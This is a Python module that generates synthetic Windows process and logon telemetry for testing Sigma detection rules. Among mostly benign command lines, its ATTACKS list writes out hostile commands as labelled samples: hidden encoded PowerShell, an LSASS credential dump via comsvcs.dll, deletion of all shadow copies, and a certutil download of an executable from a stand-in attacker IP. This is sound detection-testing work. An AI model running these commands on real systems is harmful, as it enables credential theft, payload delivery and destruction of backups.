"""Generated Windows process and logon events, for the Sigma benchmark and tests.

The benign population is a mix of common Windows programs with varied
arguments (paths, GUIDs, numbers) so that values repeat like real telemetry
but not perfectly; ``attacks`` injects a few well-known malicious command
lines that public Sigma rules describe (encoded PowerShell, LSASS dumping
with comsvcs, shadow-copy deletion, certutil downloads).

>>> fr = process_events(5, seed=1)
>>> sorted(fr.columns)[:3], len(fr)
(['@timestamp', 'event.action', 'event.code'], 5)
"""

from __future__ import annotations

import numpy as np
import pandas as pd

BENIGN = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {w}", r"C:\Windows\System32\services.exe"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle={n} --lang=en-US', r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\userinit.exe"),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{u}\Documents\report-{n}.docx"', r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe {{{g}}}", r"C:\Windows\System32\svchost.exe"),
    (r"C:\Windows\System32\cmd.exe", r'C:\Windows\system32\cmd.exe /c "type C:\ProgramData\Agent\{w}.log"', r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -NoProfile -Command Get-ChildItem C:\Users\{u}", r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\backgroundTaskHost.exe", r'"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{g}.mca', r"C:\Windows\System32\svchost.exe"),
    (r"C:\Program Files\Git\cmd\git.exe", r'"C:\Program Files\Git\cmd\git.exe" fetch origin --prune', r"C:\Program Files\Microsoft VS Code\Code.exe"),
]
ATTACKS = [
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\certutil.exe", r"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe", r"C:\Windows\System32\cmd.exe"),
]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]
WORDS = ["netsvcs", "LocalService", "DcomLaunch", "RPCSS", "Schedule", "UserManager", "wuauserv", "BITS"]


def process_events(n: int, seed: int = 0, attack_rate: float = 0.0, start: float = 1.7e9) -> pd.DataFrame:
    """``n`` Sysmon-1-like process creations on 50 hosts; ``attack_rate`` of them from :data:`ATTACKS`.

    Column ``label`` is ``malicious`` for injected attacks, ``benign`` otherwise.
    """
    rng = np.random.default_rng(seed)
    is_attack = rng.random(n) < attack_rate
    pick_b = rng.integers(0, len(BENIGN), n)
    pick_a = rng.integers(0, len(ATTACKS), n)
    users = rng.integers(0, len(USERS), n)
    nums = rng.integers(1000, 99999, n)
    img, cmd, par = [], [], []
    for i in range(n):
        e, c, p = ATTACKS[pick_a[i]] if is_attack[i] else BENIGN[pick_b[i]]
        img.append(e)
        par.append(p)
        cmd.append(c.replace("{u}", USERS[users[i]]).replace("{n}", str(nums[i])).replace("{w}", WORDS[nums[i] % 8])
                   .replace("{g}", f"{nums[i]:08X}-1A2B-4C3D-8E9F-{nums[i] * 7:012X}"))
    return pd.DataFrame({
        "event.id": [f"evt:{i}" for i in range(n)],
        "event.dataset": "windows.sysmon",
        "@timestamp": start + np.sort(rng.random(n)) * 86_400.0,
        "event.code": "1",
        "event.action": "process-created",
        "host.name": [f"WS{h:03d}" for h in rng.integers(0, 50, n)],
        "user.name": [USERS[u] for u in users],
        "process.pid": nums.astype("float64"),
        "process.executable": img,
        "process.command_line": cmd,
        "process.parent.executable": par,
        "label": np.where(is_attack, "malicious", "benign"),
    })


def auth_events(n: int, seed: int = 0, start: float = 1.7e9) -> pd.DataFrame:
    """``n`` Windows security logon events (4624/4625/4634/4769) from 50 hosts."""
    rng = np.random.default_rng(seed)
    codes = rng.choice(["4624", "4625", "4634", "4769"], n, p=[0.55, 0.1, 0.3, 0.05])
    return pd.DataFrame({
        "event.id": [f"sec:{i}" for i in range(n)],
        "event.dataset": "windows.security",
        "@timestamp": start + np.sort(rng.random(n)) * 86_400.0,
        "event.code": codes,
        "event.outcome": np.where(codes == "4625", "failure", "success"),
        "user.name": [USERS[u] for u in rng.integers(0, len(USERS), n)],
        "source.ip": [f"10.1.{a}.{b}" for a, b in rng.integers(0, 255, (n, 2))],
        "host.name": [f"WS{h:03d}" for h in rng.integers(0, 50, n)],
        "auth.logon_type": rng.choice(["2", "3", "10"], n).tolist(),
        "service.name": np.where(codes == "4769", "cifs/fs01", ""),
        "tls.cipher": np.where(codes == "4769", "0x12", ""),
    })
